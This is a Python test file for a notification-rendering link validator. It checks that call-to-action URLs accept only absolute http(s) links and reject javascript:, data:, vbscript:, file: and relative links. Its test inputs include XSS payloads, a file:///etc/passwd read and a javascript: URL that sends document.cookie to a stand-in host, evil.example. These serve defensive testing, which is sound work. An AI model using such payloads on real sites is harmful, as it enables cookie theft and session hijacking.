"""Links a recipient follows (`cta_url`): absolute http(s) only, on save and at render."""

from __future__ import annotations

import pytest

from notifications.rendering import RenderError
from notifications.rendering.links import link_error, link_source_errors
from notifications.rendering.validation import template_errors
from tests.notifications.rendering.helpers import render


@pytest.mark.parametrize(
    "url",
    ["https://shop.example/orders/1", "http://shop.example", "HTTPS://Shop.Example/x?y=1#z"],
)
def test_http_links_are_allowed(url):
    assert link_error(url) is None


@pytest.mark.parametrize(
    ("url", "says"),
    [
        ("javascript:alert(1)", "'javascript:'"),
        ("JaVaScRiPt:alert(1)", "'javascript:'"),
        (" \x01java\tscr\nipt:alert(1)", "'javascript:'"),  # what browsers ignore, ignored
        ("data:text/html;base64,PHNjcmlwdD4=", "'data:'"),
        ("vbscript:msgbox", "'vbscript:'"),
        ("file:///etc/passwd", "'file:'"),
        ("/orders/1", "relative"),
        ("//evil.example/x", "relative"),
        ("https:///nohost", "no host"),
    ],
)
def test_other_links_are_refused_naming_the_scheme_only(url, says):
    problem = link_error(url)

    assert problem is not None and says in problem
    assert "alert" not in problem and "etc" not in problem


@pytest.mark.parametrize(
    ("source", "refused"),
    [
        ("javascript:alert(1)", True),
        ("javascript:{{ payload.code }}", True),
        ("data:text/html,{{ payload.html }}", True),
        ("/orders/{{ payload.id }}", True),
        ("https://shop.example/orders/{{ payload.id }}", False),
        ("{{ payload.url }}", False),  # decided at render
        ("", False),
    ],
)
def test_a_literal_scheme_is_checked_on_save(source, refused):
    errors = template_errors(channel="in_app", subject="", body="Hi", cta_url=source)

    assert ("cta_url" in errors) is refused
    assert bool(link_source_errors(source)) is refused


def test_a_rendered_javascript_url_is_a_render_error_naming_the_field():
    with pytest.raises(RenderError, match=r"cta_url.*not 'javascript:'") as caught:
        render(
            "Hi",
            {"payload": {"url": "javascript:fetch('//evil.example?'+document.cookie)"}},
            channel="in_app",
            cta_url="{{ payload.url }}",
        )

    assert "evil" not in str(caught.value)


def test_a_rendered_https_url_passes():
    message = render(
        "Hi", {"payload": {"url": "https://shop.example/o/1"}}, cta_url="{{ payload.url }}"
    )

    assert message.cta_url == "https://shop.example/o/1"
